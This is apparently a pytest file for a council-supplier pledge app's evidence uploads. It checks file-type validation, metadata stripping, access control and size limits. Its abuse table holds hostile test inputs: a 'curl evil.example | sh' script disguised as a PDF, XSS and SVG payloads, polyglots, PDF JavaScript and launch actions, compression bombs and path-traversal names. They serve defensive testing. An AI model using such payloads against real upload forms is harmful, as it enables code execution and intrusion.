"""Evidence files: checked by content, re-encoded without metadata, stored outside static/, shown only to those who may
see the pledge; every abuse refused next to the file field with nothing else typed lost."""
import io
from datetime import date
from decimal import Decimal
from pathlib import Path
from types import SimpleNamespace

import pytest
from PIL import Image
from sqlalchemy import event, func, select
from sqlalchemy.orm import Session
from werkzeug.datastructures import FileStorage, MultiDict
from werkzeug.test import encode_multipart

from app.extensions import db
from app.models import EvidenceFile, Pledge, PledgeStatus, User
from app.services import pledges
from tests import factories_ledger as ledger
from tests.conftest import csrf_token, login_as
from tests.factories_evidence import (
    bomb_png, demo_pdf, demo_png, jpeg_with_gps, pdf_with, pdf_with_compressed,
)

TODAY = date.today()
NOTE = "Six staff painted the hall over two Saturdays"


@pytest.fixture
def world(app, make):
    """A council's contract with a supplier, a VCSE's accepted pledge, and rivals of every kind."""
    w = ledger.ledger_world(app, make)
    other_council = make.organisation(kind="buyer", name="Other Council")
    ids = SimpleNamespace(**vars(w))
    ids.other_supplier_user = make.user(make.organisation(kind="supplier"))
    ids.other_vcse_user = make.user(make.organisation(kind="vcse"))
    ids.other_manager = make.council_user("contract_manager", organisation_id=other_council)
    ids.other_moderator = make.council_user("moderator", organisation_id=other_council)
    ids.pledge = ledger.offered_pledge(app, w.need, w.commitment, w.supplier_user)
    with app.app_context():
        pledges.accept_pledge(ids.pledge, db.session.get(User, w.vcse_user))
        db.session.remove()
    return ids


def client_for(app, user_id):
    """A test client signed in as this user (anonymous for None)."""
    client = app.test_client()
    if user_id is not None:
        login_as(client, app, user_id)
    return client


def post_files(client, url: str, data):
    """POST a multipart body built in memory (the test client would spool a large one to a file it never closes)."""
    pairs = [(key, FileStorage(value[0], filename=value[1]) if isinstance(value, tuple) else value)
             for key, value in MultiDict(data).items(multi=True)]
    boundary, body = encode_multipart(MultiDict(pairs))
    response = client.post(url, data=body, content_type=f"multipart/form-data; boundary={boundary}")
    response.get_data()
    response.close()
    return response


def deliver(client, pledge_id: int, files: list[tuple[str, bytes]], **fields):
    """Post the "mark as delivered" form with files, as a browser sends it."""
    url = f"/supplier/pledges/{pledge_id}/delivered"
    data = MultiDict([("csrf_token", csrf_token(client, url)), ("quantity", fields.get("quantity", "7")),
                      ("delivered_on", str(TODAY.day)), ("delivered_on", str(TODAY.month)),
                      ("delivered_on", str(TODAY.year)), ("note", fields.get("note", NOTE))]
                     + [("files", (io.BytesIO(content), name)) for name, content in files])
    return post_files(client, url, data)


def stored_files(app) -> list[Path]:
    """Every file in the evidence folder."""
    folder = Path(app.config["EVIDENCE_DIR"])
    return sorted(folder.iterdir()) if folder.exists() else []


def evidence_rows(ctx) -> list[EvidenceFile]:
    """Every evidence row, oldest first."""
    with ctx():
        rows = list(db.session.scalars(select(EvidenceFile).order_by(EvidenceFile.id)))
        db.session.expunge_all()
        return rows


def test_supplier_attaches_a_photo_and_a_pdf_and_both_sides_see_them_listed(app, world, ctx):
    supplier = client_for(app, world.supplier_user)
    response = deliver(supplier, world.pledge, [("hall after.png", demo_png()), ("timesheet.pdf", demo_pdf())])
    assert response.status_code == 303

    rows = evidence_rows(ctx)
    assert [(r.original_name, r.content_type, r.stage.value) for r in rows] == [
        ("hall after.png", "image/png", "delivered"), ("timesheet.pdf", "application/pdf", "delivered")]
    files = stored_files(app)
    assert sorted(f.name for f in files) == sorted(r.stored_name for r in rows)
    assert all(r.stored_name not in (r.original_name,) and len(r.stored_name) >= 32 for r in rows)
    # Stored outside static/, under the configured folder, and the PDF is kept byte for byte.
    assert not str(files[0]).startswith(str(Path(app.static_folder)))
    pdf_row = rows[1]
    assert (Path(app.config["EVIDENCE_DIR"]) / pdf_row.stored_name).read_bytes() == demo_pdf()
    import hashlib
    assert pdf_row.sha256 == hashlib.sha256(demo_pdf()).hexdigest() and pdf_row.size_bytes == len(demo_pdf())

    for user_id, page in ((world.supplier_user, f"/supplier/pledges/{world.pledge}"),
                          (world.vcse_user, f"/vcse/pledges/{world.pledge}")):
        html = client_for(app, user_id).get(page).get_data(as_text=True)
        for row in rows:
            assert f'href="/evidence/{row.id}"' in html and row.original_name in html


def test_the_contract_page_shows_the_evidence_behind_a_confirmed_entry(app, world, ctx):
    deliver(client_for(app, world.supplier_user), world.pledge, [("timesheet.pdf", demo_pdf())])
    with ctx():
        pledges.confirm_delivery(world.pledge, db.session.get(User, world.vcse_user), quantity=Decimal(7))
    file_id = evidence_rows(ctx)[0].id
    html = client_for(app, world.manager).get(f"/contracts/{world.contract}").get_data(as_text=True)
    assert f'href="/evidence/{file_id}"' in html and "timesheet.pdf" in html


def test_gps_and_camera_details_are_gone_from_a_stored_photo(app, world, ctx):
    original = jpeg_with_gps()
    with Image.open(io.BytesIO(original)) as before:
        assert before.getexif().get_ifd(0x8825)  # the test photo really carries a location
    assert deliver(client_for(app, world.supplier_user), world.pledge, [("me.jpg", original)]).status_code == 303

    row = evidence_rows(ctx)[0]
    stored = (Path(app.config["EVIDENCE_DIR"]) / row.stored_name).read_bytes()
    assert stored != original and row.content_type == "image/jpeg"
    with Image.open(io.BytesIO(stored)) as after:
        assert after.format == "JPEG" and after.size == (64, 48)
        assert not after.getexif() and "exif" not in after.info
    assert b"SecretPhone" not in stored and b"Exif" not in stored and b"GPS" not in stored

    # And it is served as the re-encoded photo.
    response = client_for(app, world.vcse_user).get(f"/evidence/{row.id}")
    assert response.data == stored
    response.close()


SIX_MB = demo_pdf().replace(b"%%EOF", b"%" + b"x" * (6 * 1024 * 1024) + b"\n%%EOF")
ABUSE = {
    "a script renamed .pdf": ([("report.pdf", b"#!/bin/sh\ncurl evil.example | sh\n")],
                              "report.pdf must be a PDF, JPEG or PNG file"),
    "an HTML page renamed .pdf": ([("evidence.pdf", b"<html><script>alert(1)</script></html>")],
                                  "evidence.pdf must be a PDF, JPEG or PNG file"),
    "an SVG": ([("photo.svg", b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>')],
               "photo.svg must be a PDF, JPEG or PNG file"),
    "an SVG renamed .png": ([("photo.png", b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"/>')],
                            "photo.png must be a PDF, JPEG or PNG file"),
    "a PNG with HTML appended (polyglot)": ([("both.png", demo_png() + b"<html><script>alert(1)</script>")],
                                            "both.png is not a plain PNG image"),
    "a PNG with a zip appended (polyglot)": ([("both.png", demo_png() + b"PK\x03\x04zipdataPK\x05\x06end")],
                                             "both.png is not a plain PNG image"),
    "a PDF with a page of HTML inside (polyglot)": ([("both.pdf", pdf_with(b"/X (<script>alert(1)</script>)"))],
                                                    "both.pdf is not a plain PDF file"),
    "a PDF with JavaScript": ([("js.pdf", pdf_with(b"/OpenAction << /S /JavaScript /JS (app.alert(1)) >>"))],
                              "js.pdf contains scripts, actions or attached files"),
    "a PDF with an escaped JavaScript name": ([("js.pdf", pdf_with(b"/OpenAction << /S /J#61vaScript >>"))],
                                              "js.pdf contains scripts, actions or attached files"),
    "a PDF hiding JavaScript in a compressed stream": (
        [("js.pdf", pdf_with_compressed(b"<< /S /JavaScript /JS (app.alert(1)) >>"))],
        "js.pdf contains scripts, actions or attached files"),
    "a PDF with a launch action": ([("run.pdf", pdf_with(b"/OpenAction << /S /Launch /F (cmd.exe) >>"))],
                                   "run.pdf contains scripts, actions or attached files"),
    "a PDF with an embedded file": ([("att.pdf", pdf_with(b"/Names << /EmbeddedFiles << >> >>"))],
                                    "att.pdf contains scripts, actions or attached files"),
    "a PDF with a compression bomb inside": ([("bomb.pdf", pdf_with_compressed(b"\x00" * (40 * 1024 * 1024)))],
                                            "bomb.pdf could not be checked"),
    "a 6 MB file": ([("big.pdf", SIX_MB)], "big.pdf must be 5 MB or smaller"),
    "6 files": ([(f"p{n}.png", demo_png()) for n in range(6)], "Select up to 5 files"),
    "a zip bomb image": ([("bomb.png", bomb_png())], "bomb.png is too large an image"),
    "a damaged image": ([("cut.png", demo_png()[:60] + b"IEND\xaeB`\x82")], "cut.png is damaged or not really an image"),
    "an empty file": ([("empty.png", b"")], "empty.png is empty"),
    "a filename with ../": ([("../../etc/passwd.png", demo_png())], "A file name must not contain folders"),
    "a filename with ..\\": ([("..\\..\\win.png", demo_png())], "A file name must not contain folders"),
    "one bad file among good ones": ([("ok.png", demo_png()), ("bad.pdf", b"MZ\x90\x00")],
                                     "bad.pdf must be a PDF, JPEG or PNG file"),
}


@pytest.mark.parametrize("case", ABUSE, ids=list(ABUSE))
def test_each_abuse_is_refused_by_the_file_field_and_nothing_typed_is_lost(app, world, ctx, case):
    files, message = ABUSE[case]
    response = deliver(client_for(app, world.supplier_user), world.pledge, files, quantity="6.5",
                       note="What we did & why <kept>")
    html = response.get_data(as_text=True)
    assert response.status_code == 422
    # The message is by the file field (its error list is inside the files form group) and in the summary.
    group = html[html.index('<div class="govuk-form-group govuk-form-group--error"'):]
    assert 'id="files"' in group[:group.index("</div>\n", group.index('id="files"'))] or 'id="files' in group
    assert message.replace("'", "&#39;").replace("&", "&amp;") in html or message in html
    assert "govuk-error-summary" in html and 'href="#files"' in html
    # What was typed is still there.
    assert 'value="6.5"' in html and "What we did &amp; why &lt;kept&gt;" in html
    assert f'value="{TODAY.day}"' in html
    # Nothing changed and nothing was written.
    assert stored_files(app) == [] and evidence_rows(ctx) == []
    with ctx():
        assert db.session.get(Pledge, world.pledge).status is PledgeStatus.ACCEPTED


def test_a_group_may_add_photos_when_confirming_but_not_documents(app, world, ctx):
    ledger_pledge = world.pledge
    deliver(client_for(app, world.supplier_user), ledger_pledge, [])
    vcse = client_for(app, world.vcse_user)
    page = f"/vcse/pledges/{ledger_pledge}"

    def confirm(name, content):
        return post_files(vcse, f"{page}/confirm", MultiDict([
            ("csrf_token", csrf_token(vcse, page)), ("confirm-quantity", "7"), ("confirm-story", "Lovely hall"),
            ("confirm-photos", (io.BytesIO(content), name))]))

    refused = confirm("minutes.pdf", demo_pdf())
    html = refused.get_data(as_text=True)
    assert refused.status_code == 422 and "minutes.pdf must be a JPEG or PNG photo file" in html
    assert "Lovely hall" in html and 'href="#confirm-photos"' in html
    assert evidence_rows(ctx) == []
    with ctx():
        assert db.session.get(Pledge, ledger_pledge).status is PledgeStatus.DELIVERED

    assert confirm("after.jpg", jpeg_with_gps()).status_code == 303
    rows = evidence_rows(ctx)
    assert [(r.stage.value, r.content_type, r.uploaded_by_id) for r in rows] == [
        ("confirmed", "image/jpeg", world.vcse_user)]
    assert "after.jpg" in vcse.get(page).get_data(as_text=True)


def test_who_may_fetch_a_file_and_how_it_is_served(app, world):
    deliver(client_for(app, world.supplier_user), world.pledge, [("p.png", demo_png()), ("t.pdf", demo_pdf())])
    with app.app_context():
        image_id, pdf_id = db.session.scalars(select(EvidenceFile.id).order_by(EvidenceFile.id)).all()
    allowed = (world.supplier_user, world.vcse_user, world.manager, world.moderator)
    for user_id in allowed:
        client = client_for(app, user_id)
        image, pdf = client.get(f"/evidence/{image_id}"), client.get(f"/evidence/{pdf_id}")
        assert (image.status_code, pdf.status_code) == (200, 200), user_id
        assert image.mimetype == "image/png" and image.headers["X-Content-Type-Options"] == "nosniff"
        assert not image.headers.get("Content-Disposition", "inline").startswith("attachment")
        assert pdf.mimetype == "application/pdf" and pdf.headers["X-Content-Type-Options"] == "nosniff"
        assert pdf.headers["Content-Disposition"].startswith("attachment") and "t.pdf" in pdf.headers["Content-Disposition"]
        assert "sandbox" in pdf.headers["Content-Security-Policy"] and "no-store" in pdf.headers["Cache-Control"]
        assert pdf.data == demo_pdf()
        image.close(), pdf.close()
    # Another supplier, another group, another council's staff: as if the file did not exist.
    for user_id in (world.other_supplier_user, world.other_vcse_user, world.other_manager, world.other_moderator):
        client = client_for(app, user_id)
        assert client.get(f"/evidence/{image_id}").status_code == 404
        assert client.get(f"/evidence/{pdf_id}").status_code == 404
    assert client_for(app, world.supplier_user).get("/evidence/999999").status_code == 404
    anonymous = client_for(app, None).get(f"/evidence/{image_id}")
    assert anonymous.status_code == 302 and "/sign-in" in anonymous.headers["Location"]


def test_a_file_whose_transaction_fails_is_removed(app, world, ctx, monkeypatch):
    def fail(*args, **kwargs):
        raise RuntimeError("mail queue down")

    monkeypatch.setattr(pledges, "_tell_vcse", fail)
    with ctx():
        with pytest.raises(RuntimeError):
            pledges.mark_delivered(world.pledge, db.session.get(User, world.supplier_user), quantity=5,
                                   delivered_on=TODAY, note=NOTE,
                                   files=[pledges.evidence.Upload("a.png", io.BytesIO(demo_png()))])
        assert len(stored_files(app)) == 1   # written, but not yet committed
        db.session.rollback()
    assert stored_files(app) == [] and evidence_rows(ctx) == []


def test_a_file_whose_commit_fails_is_removed(app, world, ctx):
    def refuse(session):
        raise RuntimeError("database went away")

    with ctx():
        event.listen(Session, "before_commit", refuse)
        try:
            with pytest.raises(RuntimeError):
                pledges.mark_delivered(world.pledge, db.session.get(User, world.supplier_user), quantity=5,
                                       delivered_on=TODAY, note=NOTE,
                                       files=[pledges.evidence.Upload("a.png", io.BytesIO(demo_png()))])
            db.session.rollback()
        finally:
            event.remove(Session, "before_commit", refuse)
    assert stored_files(app) == [] and evidence_rows(ctx) == []
    with ctx():
        assert db.session.get(Pledge, world.pledge).status is PledgeStatus.ACCEPTED


def test_five_files_of_5_mb_fit_in_one_request_and_a_bigger_body_is_a_413_page(app, world, ctx):
    big = demo_pdf().replace(b"%%EOF", b"%" + b"x" * (5 * 1024 * 1024 - len(demo_pdf()) - 8) + b"\n%%EOF")
    assert 5 * 1024 * 1024 - 64 < len(big) <= 5 * 1024 * 1024
    supplier = client_for(app, world.supplier_user)
    response = deliver(supplier, world.pledge, [(f"f{n}.pdf", big) for n in range(5)])
    assert response.status_code == 303
    with ctx():
        assert db.session.scalar(select(func.count(EvidenceFile.id))) == 5

    too_big = b"x" * (app.config["UPLOAD_MAX_CONTENT_LENGTH"] + 1)
    response = post_files(supplier, f"/supplier/pledges/{world.pledge}/delivered",
                          [("files", (io.BytesIO(too_big), "huge.pdf"))])
    assert response.status_code == 413 and "What you sent is too large" in response.get_data(as_text=True)


def test_only_pages_that_take_files_accept_a_larger_body(app, world):
    supplier = client_for(app, world.supplier_user)
    body = [("files", (io.BytesIO(b"x" * (3 * 1024 * 1024)), "x.pdf"))]
    assert post_files(supplier, "/supplier/offers/new", body).status_code == 413
    body = [("files", (io.BytesIO(b"x" * (3 * 1024 * 1024)), "x.pdf"))]
    response = post_files(supplier, f"/supplier/pledges/{world.pledge}/delivered", body)
    assert response.status_code != 413
    # A form body (not files) stays limited everywhere.
    response = supplier.post(f"/supplier/pledges/{world.pledge}/delivered", data={"note": "x" * (3 * 1024 * 1024)})
    assert response.status_code == 413
